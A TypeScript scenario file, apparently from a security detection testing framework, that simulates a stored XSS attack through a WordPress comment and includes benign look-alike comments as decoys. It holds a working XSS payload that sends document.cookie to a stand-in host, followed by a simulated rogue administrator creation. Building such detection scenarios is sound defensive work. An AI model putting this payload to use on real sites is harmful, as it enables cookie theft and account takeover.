import type { Story } from '../story.ts';

const SCRIPT = '<img src=x onerror="fetch(\'//x.bad.example/?c=\'+document.cookie)">';

export const storedScript: Story = {
  name: 'stored-script', title: 'a script in a review runs in the browser of the owner',
  items: ['injection.xss-stored'], site: 'garten-werk',
  attack(s) {
    const author = s.stranger();
    return [
      s.request(s.at('20:00'), author, 'POST /wp-comments-post.php', { status: 302, bytes: 0, body: `author=Eve&comment=${encodeURIComponent(`Lovely! ${SCRIPT}`)}&comment_post_ID=12` }),
      s.act(s.at('20:00'), 'database/comment-posted', { ip: author.ip, agent: author.agent }, { 'wordpress.comment.content': `Lovely! ${SCRIPT}`, 'wordpress.comment.status': 'approve' }),
      s.act(s.at('8:10', 1), 'iam/administrator-created', s.staff('owner'), {
        'wordpress.role.new': 'administrator', 'user.target.name': 'helper', 'wordpress.request.kind': 'rest', 'http.request.referrer': `https://${s.site.domain}/wp-admin/edit-comments.php`,
      }),
    ];
  },
  lookAlike: {
    title: 'reviews with hearts, code words and bold text',
    events: (s) =>
      s.every(s.at('17:00'), '15m', 6, (at, i) => s.act(at, 'database/comment-posted', s.visitor(), {
        'wordpress.comment.content': [
          'I <3 it', 'Works on click and on load of 50 kg', '<b>Great</b> hose & fast delivery', 'How do I use onclick with the app?', 'a < b > c, as we say',
          '<a href="https://blog.example/">my blog</a>',
        ][i] ?? '',
        'wordpress.comment.status': 'approve',
      })),
  },
};
